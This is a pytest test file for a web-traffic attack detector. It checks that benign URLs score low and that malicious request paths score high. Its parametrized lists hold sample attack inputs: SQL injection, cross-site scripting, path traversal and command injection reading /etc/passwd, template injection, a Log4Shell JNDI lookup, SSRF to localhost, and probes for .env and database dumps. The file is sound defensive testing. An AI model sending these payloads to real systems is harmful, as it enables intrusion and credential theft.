"""What an address is made for: sign-on, counters, hosts of code, searches about attacks."""

from __future__ import annotations

import pytest
from tests.detect.traffic.traffic_evidence import log_line

from mingjian.detect.traffic.features import measure
from mingjian.detect.traffic.purpose import hidden_rounds
from mingjian.detect.traffic.request import read_request
from mingjian.intake.log_json import json_entry

PAGE = "https://www.example.com/"
RETURN = "https%3A%2F%2Foa.example%2Findex.jsp%3Fnext%3D%252Flist.do%253Fid%253D22"


def _values(line: str) -> dict[str, float]:
    return measure(read_request(line)).values


@pytest.mark.parametrize(
    "target",
    [
        f"/cas/login?service={RETURN}",
        "/oauth2/authorize?response_type=code&client_id=cli&redirect_uri=http%3A%2F%2F127.0.0.1%3A8914%2Fcb",
        f"/g/collect?v=2&dl={RETURN}&dt=Sale%20%7C%20%3Cb%3E",
        "/go?u=https%3A%2F%2Fa.example%2F%3Fq%3D%253Cb%253E",
        "/view?viewlet=%25E9%2594%2580%252F%25E6%259C%2588.cpt",
        "/search?q=/etc/passwd+vs+/etc/shadow+format",
        "/search?wd=union%20select%20%E6%98%AF%E4%BB%80%E4%B9%88%E6%84%8F%E6%80%9D",
        "/themes/spring/../shared/base.css?v=1",
        "/tex.svg?%5Csum_%7Bi%7D%20%24%7Bx%7D%24",
        "/blog/%7B%7Bpost.url%7D%7D",
        "/lab/puppet/src/branch/main/manifests/etc/passwd.pp",
    ],
)
def test_what_the_purpose_explains_is_no_strong_payload(target: str) -> None:
    values = _values(log_line(target, referer=PAGE))
    assert values["strongest"] <= 1
    assert values["hidden"] == values["probe_secret"] == 0


@pytest.mark.parametrize(
    "target",
    [
        "/cas/login?service=%27%20or%20sleep(5)--%20-",
        "/g/collect?dl=x&dt=%3Cscript%3Ealert(1)%3C/script%3E",
        "/search?q=%2527%2520union%2520select%25201,2--",
        "/search?q=;cat%20/etc/passwd%20and%20more",
        "/run?cmd=cat%20/etc/passwd%20and%20more",
        "/themes/../../etc/passwd",
        "/blog/%7B%7B7*7%7D%7D",
        "/blog/%24%7Bjndi:ldap://a.example/x%7D",
        "/fetch?url=http://127.0.0.1:8080/admin",
        "/lab/raw/%3Cscript%3Ealert(1)%3C/script%3E",
    ],
)
def test_what_it_does_not_explain_stays(target: str) -> None:
    assert _values(log_line(target, referer=PAGE))["strongest"] >= 2


def test_encoding_hides_where_a_sign_comes_out_late() -> None:
    assert hidden_rounds("/a?b=%252e%252e%252f") == 2
    assert hidden_rounds("/a?b=%25252527") == 4
    assert hidden_rounds("/a?u=http%3A%2F%2Fx.example%2F%3Fq%3D%2527") == 1
    assert hidden_rounds("/a?b=%25E9%2594%2580") == 0


def test_a_secret_asked_for_from_nowhere_stays_one() -> None:
    assert _values(log_line("/x/blob/main/.env", status=404))["probe_secret"] == 1
    assert _values(log_line("/x/blob/main/.env", referer=PAGE))["probe_secret"] == 0


def test_a_package_called_like_a_product_is_no_probe() -> None:
    assert _values(log_line("/v2/library/phpmyadmin/manifests/5", status=404))["probe_product"] == 0
    assert _values(log_line("/phpmyadmin/", status=404))["probe_product"] > 0


def test_short_names_of_fields_are_read() -> None:
    line = (
        '{"ts":1747881623.1,"ip":"203.0.113.4","verb":"GET","path":"/a?x=1","code":302,"ua":"A/1"}'
    )
    entry = json_entry(line)
    assert entry is not None
    assert (entry.status, entry.client, entry.agent) == (302, "203.0.113.4", "A/1")


@pytest.mark.parametrize(
    "target",
    [
        "/play?lang=js&code=el.innerHTML%3D'%3Cb%3Ehi%3C%2Fb%3E'%3B&run=1",
        "/??lib/jquery.min.js,ui/../core/base.js,page/index.js?t=20200828",
        "/docs/config/.env.example",
        "/docs/api/%3Cyour-token%3E/send",
    ],
)
def test_lessons_joined_sheets_and_patterns_to_fill_in(target: str) -> None:
    values = _values(log_line(target, referer=PAGE))
    assert values["strongest"] <= 1
    assert values["unpublished"] == values["probe_secret"] == 0


def test_a_raw_file_of_a_host_of_code_is_read_by_programs() -> None:
    values = _values(log_line("/ops/x/raw/branch/main/.gitlab-ci.yml", agent="curl/8.1"))
    assert values["unpublished"] == values["probe_secret"] == 0
    assert _values(log_line("/.gitlab-ci.yml", agent="curl/8.1", status=404))["probe_secret"] == 1


@pytest.mark.parametrize(
    ("target", "name", "least"),
    [
        ("/m?nr=1'%20or%20count(parent::*[position()=1])=1%20or%20'a'='b", "class.code", 3),
        ("/v?u=2)%20or%20exists(select%201%20from%20t)--%20", "class.sql", 2.5),
        ("/up/cv.pdf.phtml?0=uname+-a", "class.command", 3),
        ("/up/cv.pdf.phtml", "unpublished", 1),
        ("/e?city=L%22%20autofocus%20onfocus%3Dprint()", "class.script", 3),
        ("/firm_db_2022-06.sql.gz", "unpublished", 1),
    ],
)
def test_wordings_of_strangers(target: str, name: str, least: float) -> None:
    assert _values(log_line(target, status=404))[name] >= least


def test_a_line_of_json_without_its_method_is_a_request() -> None:
    entry = json_entry(
        '{"ts":"2024-11-05T12:00:02Z","remote":"10.1.0.8","uri":"/a?b=1","status":200}'
    )
    assert entry is not None
    assert entry.request == "GET /a?b=1"
    assert json_entry('{"uri":"a","status":200}') is None
